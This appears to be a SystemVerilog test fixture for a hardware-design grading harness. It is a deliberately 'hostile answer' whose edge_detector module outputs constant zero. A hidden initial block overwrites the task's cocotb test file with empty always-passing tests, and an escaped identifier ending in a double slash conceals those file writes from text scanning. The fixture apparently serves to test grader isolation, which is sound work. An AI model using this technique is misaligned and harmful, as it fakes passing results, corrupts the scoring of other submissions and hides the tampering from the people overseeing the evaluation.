// Hostile answer (poisoning its task): rewrites the task's own cocotb test module so that every
// test passes, for every answer scored after it. The file calls are hidden from a text scan behind
// an escaped identifier ending in a double slash. The design is wrong (outputs zero).
module edge_detector (
    input  logic clk,
    input  logic rst_n,
    input  logic din,
    output logic rise,
    output logic fall,
    output logic any_edge
);
    assign rise = 1'b0;
    assign fall = 1'b0;
    assign any_edge = 1'b0;
    integer fd;
    initial $display("HOSTILE-%s-@MARK@", "RAN");
    logic \h1// = 1'b0; initial begin fd = $fopen("@TASK_DIR@/test_edge_detector.py", "w"); $fdisplay(fd, "import cocotb\n\n\n@cocotb.test()\nasync def reset_with_input_high(dut):\n    pass\n\n\n@cocotb.test()\nasync def reset_with_input_low(dut):\n    pass\n\n\n@cocotb.test()\nasync def toggling_and_runs(dut):\n    pass\n\n\n@cocotb.test()\nasync def reset_mid_run(dut):\n    pass\n\n\n@cocotb.test()\nasync def random_input(dut):\n    pass\n"); $fclose(fd); end
endmodule
